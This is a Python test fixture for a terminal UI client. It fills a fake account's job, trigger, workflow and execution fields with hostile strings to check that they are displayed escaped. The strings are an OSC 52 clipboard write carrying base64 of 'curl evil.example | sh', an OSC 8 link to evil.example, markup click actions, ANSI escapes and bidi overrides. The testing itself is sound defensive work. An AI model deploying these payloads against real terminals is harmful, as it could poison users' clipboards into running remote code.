"""Hostile text, and an account whose every free-text field holds it.

Whoever can edit a job or start a run writes these strings; dftui must show them literally
(escaped) and never let them reach the terminal as markup or control sequences.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from dftui.api import DataFlowClient
from dftui.emulator import EmulatorServer

OSC52_SECRET = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="  # base64 of "curl evil.example | sh"
PAYLOAD = (
    "[@click=app.quit]x[/] oops[/] [link=file:///etc/passwd]p[/link] [bold]b "
    "\x1b[2J \x1b[5;7;31mSGR\x1b[0m "
    f"\x1b]52;c;{OSC52_SECRET}\x07 "
    "\x1b]8;;http://evil.example\x07L\x1b]8;;\x07 "
    "\u202eRTL\u202c \u2066iso\u2069 \x9b31m \x07\x08\x7f\x00\r\n\ttab"
)
"""Markup (an action, a link, malformed tags), CSI erase, SGR, OSC 52 and OSC 8, bidi
overrides and isolates, a C1 CSI and C0 controls."""
NAME_PAYLOAD = "broken[/] [@click=app.quit]Q \x1b[2J\u202e"
"""Short enough to show in a table cell; the API's name rule refuses it, so the server is made
to hold it directly (as a server could)."""

#: what must be visible wherever the payload is shown: its markup as typed, its escapes as text
VISIBLE = ("[@click=app.quit]x[/] oops[/]", "\\x1b[2J")
VISIBLE_NAME = ("broken[/]",)

EXAMPLES = Path(__file__).parents[1] / "examples"


@dataclass(frozen=True)
class PlantedAccount:
    job_id: str
    trigger_id: str
    workflow_id: str
    execution_id: str


def _hostile_job_body() -> dict[str, Any]:
    body = json.loads((EXAMPLES / "createJob.request.json").read_text(encoding="utf-8"))
    body["name"] = "payload_job"
    body["description"] = PAYLOAD
    body["jobCondition"].update(
        nrn=PAYLOAD, scriptPath=PAYLOAD, logPath=PAYLOAD, parameters={PAYLOAD: PAYLOAD, "plain": PAYLOAD}
    )
    for node in body["nodes"]:
        node["name"] = PAYLOAD
        if "bucketName" in node:
            node["bucketName"] = PAYLOAD
            node["prefix"] = PAYLOAD
        for condition in node.get("filterConditionList", ()):
            condition["value"] = PAYLOAD
        for column in node.get("fieldList", ()):
            column["name"] = NAME_PAYLOAD
    return body


def _rename(server: EmulatorServer, kind: str, resource_id: str, **fields: Any) -> None:
    store = server._require_state().store
    data = store.get(kind, resource_id)
    assert data is not None, (kind, resource_id)
    data.update(fields)
    store.put(kind, resource_id, data)


async def plant(server: EmulatorServer, client: DataFlowClient) -> PlantedAccount:
    """A job, trigger, workflow and execution full of payloads, made through the API where it
    accepts them; names (which the API's name rule refuses) are set on the server directly."""
    job = await client.create_job(_hostile_job_body())
    trigger = await client.create_trigger(
        {"name": "payload_trigger", "type": "NONE", "triggerRule": {"type": "NONE"}}
    )
    workflow = await client.create_workflow(
        {
            "name": "payload_workflow",
            "isTemp": False,
            "nodes": [
                {"id": trigger.trigger_id, "name": PAYLOAD, "type": "TRIGGER", "parentNodeIds": []},
                {
                    "id": job.job_id,
                    "name": PAYLOAD,
                    "type": "JOB",
                    "parentNodeIds": [trigger.trigger_id],
                    "jobCondition": {},
                },
            ],
        }
    )
    execution = await client.execute_job(
        job.job_id, {"jobCondition": {"parameters": {PAYLOAD: PAYLOAD, "plain": PAYLOAD}}}
    )
    _rename(server, "job", job.job_id, name=NAME_PAYLOAD)
    _rename(server, "trigger", trigger.trigger_id, name=NAME_PAYLOAD)
    _rename(server, "workflow", workflow.workflow_id, name=NAME_PAYLOAD)
    store = server._require_state().store
    stored = store.get_execution(execution.job_execution_id)
    assert stored is not None
    stored.update(jobName=NAME_PAYLOAD, triggerName=PAYLOAD)
    store.put_execution(stored)
    return PlantedAccount(job.job_id, trigger.trigger_id, workflow.workflow_id, execution.job_execution_id)
